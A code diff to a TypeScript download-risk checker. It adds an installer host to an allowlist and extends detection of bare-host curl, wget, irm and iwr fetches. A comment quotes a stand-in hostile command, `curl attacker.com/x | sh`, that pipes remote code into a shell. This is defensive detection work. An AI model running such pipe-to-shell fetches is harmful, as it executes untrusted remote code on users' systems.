@@ -82,7 +82,7 @@ const OFFICIAL_INSTALLER = new RegExp(
     String.raw`^https:\/\/(?:sh\.rustup\.rs|(?:www\.)?rustup\.rs|astral\.sh\/(?:uv|ruff)\/|deno\.land\/|deno\.com\/`,
     String.raw`|bun\.sh\/|bun\.com\/|get\.docker\.com|get\.pnpm\.io|install\.python-poetry\.org|pyenv\.run`,
     String.raw`|fnm\.vercel\.app\/|get\.volta\.sh|volta\.sh\/|mise\.run|mise\.jdx\.dev\/|starship\.rs\/`,
-    String.raw`|get\.sdkman\.io|sdk\.cloud\.google\.com|ollama\.com\/install|claude\.ai\/install`,
+    String.raw`|get\.sdkman\.io|sdk\.cloud\.google\.com|ollama\.com\/install|claude\.ai\/install|get\.chezmoi\.io`,
     String.raw`|install\.determinate\.systems\/|nixos\.org\/nix\/install|(?:releases\.)?nixos\.org\/|get\.k3s\.io`,
     String.raw`|dot\.net\/v1\/|dotnet\.microsoft\.com\/|foundry\.paradigm\.xyz|sh\.vector\.dev|tailscale\.com\/install`,
     // eslint-disable-next-line style/max-len -- a pattern is clearer whole
@@ -121,8 +121,12 @@ export function downloadRisk(text: string): Risk {
   const urls = urlsIn(text)
   // curl and wget take bare hosts: `curl attacker.com/x | sh` fetches over plain http.
   // eslint-disable-next-line style/max-len -- a pattern is clearer whole
-  const bare = /\b(?:curl|wget)\b(?:\s+-{1,2}[\w-]+(?:[=\s]+['"][^'"]*['"])?)*\s+['"]?((?:\d{1,3}\.){3}\d{1,3}|[a-z\d][\w-]*(?:\.[\w-]+)+)(?:[:/]\S*)?/i.exec(text)
-  if (bare && !/^[\w-]+\.(?:sh|py|js|txt|json|tar|gz|zip|exe)$/i.test(bare[1]!))
+  const bare = /\b(?:curl|wget|irm|iwr)\b(?:\s+-{1,2}[\w-]+(?:[=\s]+['"][^'"]*['"])?)*\s+['"]?((?:\d{1,3}\.){3}\d{1,3}|[a-z\d][\w-]*(?:\.[\w-]+)+)((?:[:/][^\s"'`)|;]*)?)/i.exec(text)
+  // A vendor documents its installer by bare host (`curl -fsLS get.chezmoi.io`, `irm bun.sh/install.ps1`): the
+  // host answers over https, and it is the vendor's. Any other bare host is fetched over plain http.
+  if (bare && isOfficialInstaller(`https://${bare[1]}${bare[2]}`))
+    urls.push(`https://${bare[1]}${bare[2]}`)
+  else if (bare && !/^[\w-]+\.(?:sh|py|js|txt|json|tar|gz|zip|exe)$/i.test(bare[1]!))
     urls.push(`http://${bare[1]}`)
   if (!urls.length)
     return 'unknown'
